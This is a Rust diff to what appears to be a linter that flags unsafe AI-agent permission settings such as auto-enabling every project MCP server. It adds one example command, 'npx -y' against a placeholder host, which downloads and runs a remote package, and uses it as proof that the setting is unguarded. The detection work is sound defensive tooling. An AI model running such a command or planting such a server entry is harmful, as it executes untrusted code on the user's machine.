@@ -35,6 +35,8 @@ const OPEN: &[(&str, Value<'static>, Severity, &str, &str)] = &[
     ),
     ("dangerouslySkipPermissions", Value::Bool(true), Severity::Error, "everything would run unasked", "false"),
 ];
+/// What a repository may name as a server.
+const SERVER: &str = "npx -y https://x.example/server.tgz";
 /// Keys that switch a mode off, and count only with this very word.
 const SWITCHES: &[&str] = &["disableBypassPermissionsMode", "disableAutoMode"];
 /// Keys of `permissions` that hold rules.
@@ -128,17 +130,15 @@ impl Sheet<'_, '_, '_> {
         else {
             return;
         };
-        let proof = match *severity {
-            Severity::Error => self.reach.shell("Bash", None, self.fence),
+        let proof = match (*severity, member.key.as_ref()) {
+            (Severity::Error, "enableAllProjectMcpServers") => self.reach.bench.shell(SERVER),
+            (Severity::Error, _) => self.reach.shell("Bash", None, self.fence),
             _ => None,
         };
         let what = match &proof {
-            Some(proof) if member.key != "enableAllProjectMcpServers" => {
-                format!("{means}; `{}` meets no guard", proof.statement)
-            }
-            _ => (*means).to_owned(),
+            Some(proof) => format!("{means}; `{}` meets no guard", proof.statement),
+            None => (*means).to_owned(),
         };
-        let proof = if member.key == "enableAllProjectMcpServers" { None } else { proof };
         let fix = Some(Edit { span: member.node.span, text: (*good).to_owned() });
         let text = format!("{}: {}", member.key, member.node.span.of(self.source));
         let found = Found::new(&found::SETTING, *severity, &text, member.span, what).proven(proof).fixed(fix);
